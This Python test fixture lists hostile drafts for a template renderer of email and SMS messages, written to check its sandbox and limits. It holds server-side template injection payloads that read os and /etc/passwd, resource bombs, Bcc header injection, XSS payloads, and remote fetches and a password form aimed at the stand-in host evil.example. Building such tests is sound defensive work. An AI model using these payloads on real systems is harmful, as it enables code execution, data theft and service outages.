"""Drafts that somebody hostile, or only unlucky, might type, each with its part (HOSTILE 26 to 33).

None may escape, act in a preview, fetch anything, or cost more than its limits; the honest draft after it still works.
"""

from dataclasses import dataclass

DEEP = 3_000


@dataclass(frozen=True)
class Hostile:
    """One draft. `part` is subject, email or sms."""

    name: str
    text: str
    part: str = "email"


def _loops(depth: int, text: str) -> str:
    return "{% for a in 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' %}" * depth + text + "{% endfor %}" * depth


ESCAPES = (
    Hostile("class", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    Hostile("class by index", "{{ ''['__class__'] }}"),
    Hostile("class by attr", "{{ ''|attr('__class__') }}"),
    Hostile("class by joined words", "{{ brand['__cl' ~ 'ass__'] }}"),
    Hostile("globals of lipsum", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    Hostile("init of cycler", "{{ cycler.__init__.__globals__.os }}"),
    Hostile("globals of a function", "{{ plural.__globals__ }}"),
    Hostile("builtins of a function", "{{ plural['__builtins__'] }}"),
    Hostile("self", "{{ self._TemplateReference__context }}"),
    Hostile("a method of a text", "{{ greeting.format(greeting) }}"),
    Hostile("format_map", "{{ '{0.__class__}'.format_map(brand) }}"),
    Hostile("format filter", "{{ '%(x)s'|format(x=1) }}"),
    Hostile("map to an attribute", "{{ items|map(attribute='__class__')|list }}"),
    Hostile("a method of a list", "{{ items.append(items) }}"),
    Hostile("change of a table", "{{ brand.update(name='x') }}{{ brand.pop('name') }}"),
    Hostile("set of a variable", "{% set brand = 'x' %}"),
    Hostile("a function as a value", "{{ plural }}{{ you }}"),
    Hostile("the loop's own", "{% for i in items %}{{ loop.__init__ }}{{ loop.cycle }}{% endfor %}"),
    Hostile("include", "{% include '/etc/passwd' %}"),
    Hostile("import", "{% import 'os' as os %}"),
    Hostile("extends", "{% extends 'x' %}"),
    Hostile("macro that calls itself", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
    Hostile("recursive loop", "{% for i in items recursive %}{{ loop(items) }}{% endfor %}"),
    Hostile("autoescape off", "{% autoescape false %}<b>{% endautoescape %}"),
    Hostile("safe", "{{ '<script>alert(1)</script>'|safe }}"),
    Hostile("raw", "{% raw %}{{ }}{% endraw %}"),
    Hostile("do", "{% do items.clear() %}"),
    Hostile("debug", "{% debug %}"),
    Hostile("the marks of the compiler", "qjx0xq {{ greeting }} <!--qjx0xq-->"),
)
BOMBS = (
    Hostile("a loop in a loop in a loop", _loops(7, "{% if a == 'y' %}z{% endif %}")),
    Hostile("the same in the subject", _loops(7, "{% if a == 'y' %}z{% endif %}"), "subject"),
    Hostile("the same in a text", _loops(7, "{% if a == 'y' %}z{% endif %}"), "sms"),
    Hostile("a large power", "{{ 9 ** 999999999 }}"),
    Hostile("a text times a number", "{{ 'x' * 3000000000 }}"),
    Hostile("a number times a number", "{{ 9999999999 * 9999999999 * 9999999999 }}" * 500),
    Hostile("a wide format", "{{ '%9000000000d' % 1 }}"),
    Hostile("range", "{% for a in range(1000000000) %}x{% endfor %}"),
    Hostile("doubling", "{% set a = 'xxxxxxxx' %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}"),
    Hostile(
        "copies of a long text",
        "{% set a = '"
        + "x" * 4_000
        + "' %}"
        + "{% set a = a ~ a %}" * 13
        + "{% for i in a %}{% set b = a ~ 'y' %}{% endfor %}",
    ),
    Hostile("doubling by lists", "{% set a = [1] %}" + "{% set a = [a, a] %}" * 60 + "{{ a }}"),
    Hostile("growing by replace", "{{ '" + "x" * 6_000 + "'|replace('x', '" + "y" * 6_000 + "')|replace('y', 'zz') }}"),
    Hostile("growing by join", "{% set a = 'x' * 1 %}{{ ['" + "x" * 9_000 + "']|join }}" * 2),
    Hostile("centre", "{{ 'x'|center(900000000) }}"),
    Hostile("indent", "{{ orders|indent(900000000) }}"),
    Hostile("wordwrap", "{{ '" + "x " * 9_000 + "'|wordwrap(1) }}"),
    Hostile("truncate that grows", "{{ 'xxxxx'|truncate(3, true, '" + "y" * 60_000 + "') }}" * 1),
    Hostile("huge output", "{% for a in 'xxxxxxxxxx' %}" + "word " * 6_000 + "{% endfor %}"),
    Hostile("deep brackets", "{{ " + "(" * DEEP + "1" + ")" * DEEP + " }}"),
    Hostile("deep lists", "{{ " + "[" * DEEP + "]" * DEEP + " }}"),
    Hostile("deep conditions", "{% if orders %}" * DEEP + "x" + "{% endif %}" * DEEP),
    Hostile("deep attributes", "{{ a" + ".b" * 25_000 + " }}"),
    Hostile("many joined words", "{{ orders" + " ~ orders" * 9_000 + " }}"),
    Hostile("many filters", "{{ orders" + "|lower" * 9_000 + " }}"),
    Hostile("many unknown names", "".join(f"{{{{ a{n} }}}}" for n in range(5_000))),
    Hostile("a very long name", "{{ " + "a" * 60_000 + " }}"),
    Hostile("deep quotes of Markdown", "> " * 20_000 + "x"),
    Hostile("deep lists of Markdown", "".join(" " * (2 * n) + "- x\n" for n in range(170))),
    Hostile("open brackets of Markdown", "[" * 60_000),
    Hostile("open links of Markdown", "[a](" * 15_000),
    Hostile("emphasis without an end", "*a **a " * 9_000),
    Hostile("backticks of all lengths", " ".join("`" * n for n in range(1, 340))),
    Hostile("angles without an end", "<a " * 20_000),
    Hostile("digits before a percent sign", "1" * 60_000),
    Hostile("blanks before a bracket", "[x](" + " " * 60_000 + ")"),
    Hostile("tags without an end", "{{" * 30_000),
    Hostile("over 64 KB", "word " * 14_000),
    Hostile("costly characters in a text", "{{ brand.name }} " + "😀" * 15_000 + " STOP", "sms"),
    Hostile("a text that never fits", "{{ brand.name }} " + "word " * 10_000 + " STOP", "sms"),
)
HEADERS = (
    Hostile("a line more in the subject", "Hello {{ orders }}\r\nBcc: eve@evil.example", "subject"),
    Hostile("a separator of lines in the subject", "Hello\u2028Bcc: eve@evil.example {{ orders }}", "subject"),
    Hostile("a break by a tag in the subject", "Hello {{ '\\r\\nBcc: eve@evil.example' }} {{ orders }}", "subject"),
    Hostile("NUL in the subject", "Hello\x00 {{ orders }}", "subject"),
    Hostile("text that runs backwards in the subject", "\u202ehello {{ orders }}", "subject"),
    Hostile("markup in the subject", "</title><script>alert(1)</script> {{ orders }}", "subject"),
    Hostile("a lone surrogate", "x \ud800 {{ greeting }}"),
    Hostile("control characters", "x \x00\x07\x1b[2J\x85 {{ greeting }}"),
)
PAGES = (
    Hostile("script", "<script>alert(1)</script>"),
    Hostile("script in a tag", "{{ '<script>alert(1)</script>' }}"),
    Hostile("script that is cut", "<scr{{ '' }}ipt>alert(1)</scr{{ '' }}ipt>"),
    Hostile("an event", "<img src=x onerror=alert(1)>"),
    Hostile("an event in a link's title", '[x](https://oak.example "a\\" onmouseover=alert(1) b")'),
    Hostile("svg", "<svg onload=alert(1)><script>alert(1)</script></svg>"),
    Hostile("javascript link", "[x](javascript:alert(1))"),
    Hostile("javascript link in disguise", "[x](java&#115;cript:alert(1)) [y](JaVaScRiPt:alert(1))"),
    Hostile("javascript link by a tag", "[x]({{ 'javascript:alert(1)' }})"),
    Hostile("javascript link in parts", "[x](java{{ 'script' }}:alert{{ '(1)' }})"),
    Hostile("data link", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    Hostile("vbscript autolink", "<vbscript:msgbox(1)> <javascript:alert(1)>"),
    Hostile("remote picture", "![x](https://evil.example/pixel.png)"),
    Hostile("remote picture by a tag", "![x]({{ 'https://evil.example/' ~ greeting }})"),
    Hostile("css that fetches", "<p style='background:url(https://evil.example/x.png)'>x</p>"),
    Hostile("a style", "<style>@import 'https://evil.example/x.css'; body { display: none }</style>"),
    Hostile("refresh", "<meta http-equiv='refresh' content='0;url=https://evil.example'>"),
    Hostile("iframe", "<iframe src='https://evil.example'></iframe>"),
    Hostile("frame out of the top", "<a target=_top href='https://evil.example'>x</a>"),
    Hostile("form", "<form action='https://evil.example'><input name=password></form>"),
    Hostile("base", "<base href='https://evil.example/'>"),
    Hostile("tags without their end", "<div><table><tr><td><b>"),
    Hostile("ends without their tags", "</td></tr></table></body></html> {{ greeting }}"),
    Hostile("a comment without its end", "<!-- {{ greeting }}"),
    Hostile("MJML", "</mj-text><mj-raw><script>alert(1)</script></mj-raw><mj-text>"),
    Hostile("MJML include", "<mj-include path='/etc/passwd' />"),
    Hostile("CDATA", "<![CDATA[<script>alert(1)</script>]]>"),
    Hostile("an entity", "&lt;script&gt;alert(1)&lt;/script&gt; {{ greeting }}"),
)
ALL = (*ESCAPES, *BOMBS, *HEADERS, *PAGES)
